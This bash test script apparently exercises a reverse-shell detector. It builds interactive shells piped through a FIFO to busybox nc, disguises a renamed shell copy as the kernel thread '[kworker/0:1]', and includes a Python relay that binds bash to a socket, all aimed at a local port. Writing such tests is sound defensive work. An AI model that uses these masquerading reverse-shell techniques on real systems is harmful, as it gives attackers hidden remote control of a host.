#!/usr/bin/env bash
# The same with a renamed copy of the shell under a kernel thread's name, and relayed by Python: bash on pipes, a renamed
# copy elsewhere, and a login shell on local sockets.
# shellcheck source=testdata/attack/common.sh
. "$(dirname "$0")/../common.sh"
own_mounts

python3 "$peer" operator "$work/port" "$work/answers" 4 &
operator=$!
wait_for "$work/port"
port=$(<"$work/port")

own_folder /mnt
cp "$(readlink -f /bin/sh)" "$work/kworker"
cp "$(readlink -f /bin/bash)" /mnt/agent
mkfifo "$work/f"
# shellcheck disable=SC2002,SC2094 # the cat and the FIFO are the attack
cat "$work/f" | (exec -a '[kworker/0:1]' "$work/kworker" -i) 2>&1 | busybox nc 127.0.0.1 "$port" >"$work/f"
cat >"$work/relay.py" <<'PYTHON'
import socket, subprocess, sys
port, how, *command = sys.argv[1:]
with socket.create_connection(("127.0.0.1", int(port))) as connection:
    if how == "pipes":
        shell = subprocess.run(command, input=connection.recv(4096), capture_output=True)
        connection.sendall(shell.stdout)
    else:
        ours, theirs = socket.socketpair()
        with subprocess.Popen(command, stdin=theirs, stdout=theirs, stderr=theirs):
            theirs.close()
            ours.sendall(connection.recv(4096))
        connection.sendall(ours.recv(4096))
PYTHON
python3 "$work/relay.py" "$port" pipes bash --norc -i
python3 "$work/relay.py" "$port" pipes /mnt/agent -i
python3 "$work/relay.py" "$port" sockets /bin/bash -li
wait "$operator"
[[ $(grep -c 'uid=0' "$work/answers") = 4 ]] || fail "not every shell answered"
